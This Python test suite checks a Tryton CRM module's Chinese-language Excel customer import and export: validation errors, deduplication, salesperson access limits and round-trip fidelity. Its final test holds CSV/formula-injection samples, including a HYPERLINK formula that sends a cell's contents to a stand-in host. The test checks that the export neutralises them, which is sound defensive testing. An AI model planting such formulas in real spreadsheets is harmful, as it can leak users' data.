# This file is part of the CRM suite.
import datetime as dt
import io

import openpyxl
import xlwt

from trytond.exceptions import UserError
from trytond.model import fields
from trytond.model.exceptions import AccessError, ValidationError
from trytond.modules.company.tests import create_company, set_company
from trytond.modules.crm_customer.chinese import name_pinyin
from trytond.modules.crm_customer.customer_excel import (
    Columns, CustomerImporter, template)
from trytond.modules.crm_customer.tests.tools import (
    ModuleDatabaseTestCase, as_user, create_staff, xlsx)
from trytond.modules.crm_customer.tests.test_profile import (
    ID_MAN, ID_WOMAN, load_regions)
from trytond.pool import Pool
from trytond.tests.test_tryton import with_transaction
from trytond.transaction import Transaction


def xls(rows):
    book = xlwt.Workbook()
    sheet = book.add_sheet('客户')
    for r, row in enumerate(rows):
        for c, value in enumerate(row):
            sheet.write(r, c, value)
    output = io.BytesIO()
    book.save(output)
    return output.getvalue()


def chinese():
    "Work in Chinese, as the shop does: the headers are the Chinese labels"
    Lang = Pool().get('ir.lang')
    zh_cn, = Lang.search([('code', '=', 'zh_CN')])
    Lang.load_translations([zh_cn])
    return Transaction().set_context(language='zh_CN')


def reasons(importer):
    return [(row, column) for row, column, _ in importer.errors]


class CustomerExcelTestCase(ModuleDatabaseTestCase):
    "Test the customer import and export"

    @with_transaction()
    def test_template(self):
        "The template has Chinese headers, dropdowns and an example row"
        with chinese():
            load_regions()
            book = openpyxl.load_workbook(io.BytesIO(template()))
            sheet = book.worksheets[0]
            headers = [c.value for c in sheet[1]]
            self.assertIn("客户名称", headers)
            self.assertIn("手机", headers)
            self.assertIn("性别", headers)
            self.assertEqual(len(set(headers)), len(headers))
            self.assertEqual(sheet.cell(2, headers.index("客户名称") + 1).value,
                "张三")
            self.assertEqual(sheet.cell(2, headers.index("性别") + 1).value, "男")
            lists = book['lists']
            self.assertEqual(lists.sheet_state, 'hidden')
            formulas = [v.formula1 for v in sheet.data_validations.dataValidation]
            self.assertTrue(formulas)
            gender = formulas[0].split('!')[1].split(':')[0].replace('$', '')
            self.assertEqual(lists[gender].value, "男")

            # The example row imports as it is
            importer = CustomerImporter(template())
            self.assertEqual(importer.errors, [])
            self.assertEqual(len(importer.to_create), 1)

    @with_transaction()
    def test_bad_rows_reported_and_nothing_imported(self):
        "Each bad row is named with its column and reason; nothing is saved"
        with chinese():
            pool = Pool()
            Party = pool.get('party.party')
            load_regions()
            existing, = Party.create([{'name': "老王", 'mobile': '13900139000'}])
            count = Party.search([], count=True)

            data = xlsx([
                    ["客户名称", "手机", "身份证号码", "省份", "城市", "生日"],
                    ["张三", "13800138000", ID_MAN, "广东省", "深圳市", "1985-02-15"],
                    ["李四", "12345", None, None, None, None],
                    ["王五", "13700137000", '110105198502150016', None, None, None],
                    ["赵六", None, None, "北京市", "深圳市", None],
                    ["钱七", "13800138000", None, None, None, None],
                    ["孙八", "13900139000", ID_MAN, None, None, None],
                    ["周九", None, None, "火星", None, "1990-02-30"],
                    ])
            importer = CustomerImporter(data)
            self.assertEqual(reasons(importer), [
                    (3, "手机"),
                    (4, "身份证号码"),
                    (5, "城市"),
                    (6, "手机"),
                    (7, "身份证号码"),
                    (8, "生日"),
                    (8, "省份"),
                    ])
            messages = importer.messages
            self.assertIn("第 3 行", messages[0])
            self.assertIn("12345", messages[0])
            self.assertIn("不在", messages[2])
            self.assertIn("第 2 行", messages[3])
            with self.assertRaisesRegex(UserError, "7"):
                importer.save()
            self.assertEqual(Party.search([], count=True), count)
            # The customer with that mobile is updated, not duplicated
            self.assertEqual(importer.to_update[0][1], existing)

    @with_transaction()
    def test_numbers_that_are_no_amounts(self):
        "NaN, Infinity, a fraction or a figure too large is a bad number"
        with chinese():
            data = xlsx([
                    ["客户名称", "农历月", "信用额度"],
                    ["张三", "Infinity", None],
                    ["李四", "3.5", None],
                    ["王五", None, "NaN"],
                    ["赵六", None, "1e30"],
                    ["钱七", None, "100.5"],
                    ])
            importer = CustomerImporter(data)
            self.assertEqual(reasons(importer), [
                    (2, "农历月"), (3, "农历月"), (4, "信用额度"),
                    (5, "信用额度")])

    @with_transaction()
    def test_rules_of_the_form_apply(self):
        "A row breaks no rule the customer form would enforce"
        with chinese():
            importer = CustomerImporter(xlsx([
                        ["客户名称", "生日", "信用额度", "历法", "农历月",
                            "农历日", "闰月"],
                        ["张三", "2999-01-01", None, None, None, None, None],
                        ["李四", None, "-5", None, None, None, None],
                        ["王五", None, None, "农历", "13", "1", None],
                        ["赵六", "2024-03-31", None, "农历", "2", "10", "是"],
                        ["钱七", "2023-03-31", None, "农历", "2", "10", "是"],
                        ]))
            self.assertEqual(reasons(importer), [
                    (2, "生日"), (3, "信用额度"), (4, "农历月"),
                    (5, "农历月")])

    @with_transaction()
    def test_bad_files(self):
        "A file that is not a workbook, empty or without names is refused"
        with chinese():
            for data, message in [
                    (b'not a workbook', "Excel"),
                    (b'', "没有"),
                    (xlsx([["客户名称", "手机"]]), "没有"),
                    (xlsx([["手机"], ["13800138000"]]), "客户名称"),
                    (xlsx([["客户名称", "鞋码"], ["张三", "42"]]), "鞋码"),
                    ]:
                with self.assertRaisesRegex(UserError, message):
                    CustomerImporter(data)

    @with_transaction()
    def test_import_then_again_updates(self):
        "Importing the same file twice creates the customers once"
        with chinese():
            pool = Pool()
            Party = pool.get('party.party')
            regions = load_regions()
            rows = [
                ["客户名称", "手机", "身份证号码", "性别", "省份", "城市", "区县",
                    "街道", "邮政编码", "短信营销同意", "同意日期", "客户分类"],
                ["张三", "138 0013 8000", ID_MAN, "男", "广东省", "深圳市",
                    "南山区", "科技园路1号", "518000", "是", "2026-01-01", "VIP"],
                ["王芳", "13900139000", ID_WOMAN, None, "北京市", None, None,
                    None, None, "否", None, None],
                ]
            for data in [xlsx(rows), xls(rows)]:
                importer = CustomerImporter(data)
                self.assertEqual(importer.errors, [])
                importer.save()
                zhang, = Party.search([('name', '=', "张三")])
                self.assertEqual(zhang.mobile, '138 0013 8000')
                self.assertEqual(zhang.district, regions['440305'])
                self.assertEqual(zhang.addresses[0].postal_code, '518000')
                self.assertEqual(zhang.customer_class.name, "VIP")
                self.assertTrue(zhang.sms_consent)
                self.assertEqual(zhang.sms_consent_date, dt.date(2026, 1, 1))
                wang, = Party.search([('name', '=', "王芳")])
                # From the ID card number
                self.assertEqual(wang.gender, 'female')
                self.assertEqual(len(wang.contact_mechanisms), 1)

            rows[1][0] = "张三丰"
            importer = CustomerImporter(xlsx(rows))
            self.assertEqual(len(importer.to_update), 2)
            importer.save()
            self.assertEqual(Party.search([('name', '=', "张三丰")]), [zhang])
            self.assertEqual(len(zhang.addresses), 1)

    @with_transaction()
    def test_export_round_trip(self):
        "An export imports back unchanged"
        with chinese():
            pool = Pool()
            Party = pool.get('party.party')
            Export = pool.get('party.party.export', type='report')
            regions = load_regions()
            parties = Party.create([{
                        'name': "张三",
                        'mobile': '13800138000',
                        'id_card_number': ID_MAN,
                        'gender': 'male',
                        'birthday': dt.date(1985, 2, 15),
                        'birthday_calendar': 'lunar',
                        'birthday_lunar_month': 12,
                        'birthday_lunar_day': 26,
                        'district': regions['440305'].id,
                        'city': regions['440300'].id,
                        'province': regions['440000'].id,
                        'credit_rating': 'B',
                        'credit_limit': 1000,
                        'remark': "喜欢绿茶\n周末来",
                        'addresses': [('create', [{'street': "科技园路1号",
                                        'postal_code': '518000'}])],
                        }, {
                        'name': "公司客户",
                        'sms_consent': True,
                        'sms_consent_date': dt.date(2026, 1, 1),
                        }])
            columns = Columns()
            fields_ = [f for f in columns.fields
                if f not in {'street', 'postal_code', 'mobile', 'phone', 'email'}]
            before = sorted(
                Party.read([p.id for p in parties], fields_),
                key=lambda r: r['id'])

            oext, content, _, name = Export.execute(
                [p.id for p in parties], {})
            self.assertEqual(oext, 'xlsx')
            importer = CustomerImporter(content)
            self.assertEqual(importer.errors, [])
            self.assertEqual(importer.to_create, [])
            self.assertEqual([p for _, p, _ in importer.to_update], parties)
            importer.save()
            self.assertEqual(sorted(
                    Party.read([p.id for p in parties], fields_),
                    key=lambda r: r['id']), before)
            self.assertEqual(parties[0].addresses[0].street, "科技园路1号")
            self.assertEqual(len(parties[0].contact_mechanisms), 1)

    @with_transaction()
    def test_import_as_the_user(self):
        """A salesperson's import updates no customer they cannot see and
        saves as they would in the form, with the ORM's checks"""
        pool = Pool()
        Party = pool.get('party.party')
        company = create_company()
        with set_company(company), chinese():
            sales1 = create_staff(company, 'sales1', 'group_salesperson')
            sales2 = create_staff(company, 'sales2', 'group_salesperson')
            other, = Party.create([{
                        'name': "李娜的客户",
                        'owner': sales2.employee.id,
                        'mobile': '13900139000',
                        }])
            with as_user(sales1):
                # By its number or by its mobile
                importer = CustomerImporter(xlsx([
                            ["客户编号", "客户名称", "身份证号码", "短信营销同意"],
                            [other.code, "改名", ID_MAN, "是"],
                            ]))
                self.assertEqual(reasons(importer), [(2, "客户编号")])
                self.assertIn(other.code, importer.messages[0])
                self.assertIn("不在您可以查看的客户中", importer.messages[0])
                with self.assertRaises(UserError):
                    importer.save()
                importer = CustomerImporter(xlsx([
                            ["客户名称", "手机", "负责销售员"],
                            ["改名", "139 0013 9000", "sales1"],
                            ]))
                self.assertEqual(reasons(importer), [(2, "手机")])

                # Past the check, the ORM refuses what the form would
                importer = CustomerImporter(xlsx([
                            ["客户名称", "负责销售员"], ["新客户", "sales2"]]))
                self.assertEqual(reasons(importer), [(2, "负责销售员")])
                importer.errors.clear()
                with self.assertRaises(AccessError):
                    importer.save()
                importer = CustomerImporter(xlsx([
                            ["客户名称"], ["长" * 101]]))
                self.assertEqual(importer.errors, [])
                with self.assertRaises(ValidationError):
                    importer.save()

            other = Party(other.id)
            self.assertEqual(
                (other.name, other.id_card_number, other.sms_consent,
                    other.owner),
                ("李娜的客户", None, False, sales2.employee))

    @with_transaction()
    def test_import_birthday_from_id_card(self):
        "An imported ID card gives the birthday and gender, or refuses others"
        pool = Pool()
        Party = pool.get('party.party')
        with chinese():
            importer = CustomerImporter(xlsx([
                        ["客户名称", "身份证号码", "生日", "性别"],
                        ["张三", ID_MAN, None, None],
                        ["王芳", ID_WOMAN, "1990-03-02", "男"],
                        ]))
            self.assertEqual(reasons(importer), [(3, "身份证号码")])
            self.assertIn("1990-03-01", importer.messages[0])
            importer.to_create.pop()
            importer.errors.clear()
            importer.save()
            zhang, = Party.search([('name', '=', "张三")])
            self.assertEqual(
                (zhang.birthday, zhang.gender), (dt.date(1985, 2, 15), 'male'))

    @with_transaction()
    def test_import_saves_as_the_form(self):
        """The customers created a hundred at a time by the import hold
        what Party.create of one customer stores: the company values, the
        computed columns of the name, ID card and phones"""
        pool = Pool()
        Party = pool.get('party.party')
        Mechanism = pool.get('party.contact_mechanism')
        company = create_company()
        names = [n for n, f in Party._fields.items()
            if isinstance(f, fields.MultiValue)]
        values_models = {Party.multivalue_model(n) for n in names}
        with set_company(company), chinese():
            alone, = Party.create([{
                        'name': "李娜", 'id_card_number': ID_WOMAN,
                        'contact_mechanisms': [('create', [{
                                        'type': 'mobile',
                                        'value': '13900139001'}])],
                        }])
            importer = CustomerImporter(xlsx([
                        ["客户名称", "手机", "身份证号码"],
                        ["张三", "138 0013 8000", ID_MAN],
                        ["王芳", "+86 137 0013 7000", None],
                        ]))
            self.assertEqual(importer.errors, [])
            importer.save()
            zhang, = Party.search([('name', '=', "张三")])
            wang, = Party.search([('name', '=', "王芳")])
            for Value in values_models:
                field = next(n for n, f in Value._fields.items()
                    if f._type == 'many2one' and f.model_name == Party.__name__)

                def stored(party):
                    return sorted(
                        tuple((n, getattr(v, n)) for n in sorted(Value._fields)
                            if n not in {'id', field, 'create_date',
                                'write_date', 'create_uid', 'write_uid',
                                'rec_name'})
                        for v in Value.search([(field, '=', party.id)]))
                self.assertEqual(stored(zhang), stored(alone), Value.__name__)
                self.assertEqual(stored(wang), stored(alone), Value.__name__)
            for name in names:
                self.assertEqual(zhang.get_multivalue(name),
                    alone.get_multivalue(name), name)
            self.assertEqual(
                (zhang.name_pinyin, zhang.name_initials, zhang.gender,
                    zhang.birthday),
                (*name_pinyin("张三"), 'male', dt.date(1985, 2, 15)))
            self.assertTrue(zhang.code_alnum)
            self.assertEqual(zhang.code_digit,
                int(''.join(c for c in zhang.code if c.isdigit())))
            mobile, = Mechanism.search([('party', '=', wang.id)])
            self.assertEqual(
                (mobile.value, mobile.value_compact, mobile.value_tail),
                ("137 0013 7000", '+8613700137000', '7000'))

    @with_transaction()
    def test_export_formulas_as_text(self):
        "A cell that a spreadsheet would run as a formula is written as text"
        pool = Pool()
        Party = pool.get('party.party')
        Export = pool.get('party.party.export', type='report')
        names = ['=HYPERLINK("http://example.com/?"&A1,"点我")', '+1+1',
            '-2+3', '@SUM(A1:A9)']
        with chinese():
            parties = Party.create([{'name': n} for n in names])
            _, content, _, _ = Export.execute([p.id for p in parties], {})
        sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
        column = [c.value for c in sheet[1]].index("客户名称") + 1
        cells = [sheet.cell(r, column) for r in range(2, len(names) + 2)]
        self.assertEqual([c.value for c in cells], names)
        self.assertEqual({c.data_type for c in cells}, {'s'})
        self.assertTrue(all(c.quotePrefix for c in cells))


del ModuleDatabaseTestCase
